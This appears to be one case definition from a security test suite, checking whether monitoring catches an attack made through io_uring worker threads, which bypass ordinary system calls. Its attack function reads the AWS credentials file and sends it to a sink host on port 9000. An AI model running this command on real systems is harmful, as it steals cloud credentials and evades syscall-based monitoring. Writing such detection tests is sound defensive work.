# SPDX-License-Identifier: Apache-2.0
TITLE="the same from the ring's kernel worker threads"
ROW="R10 N22"
attack() { "$PROVOKE/uring" async "$HOME/.aws/credentials" "$SINK4" 9000; }
COVERAGE=full WHY="requests of a ring are no system calls"
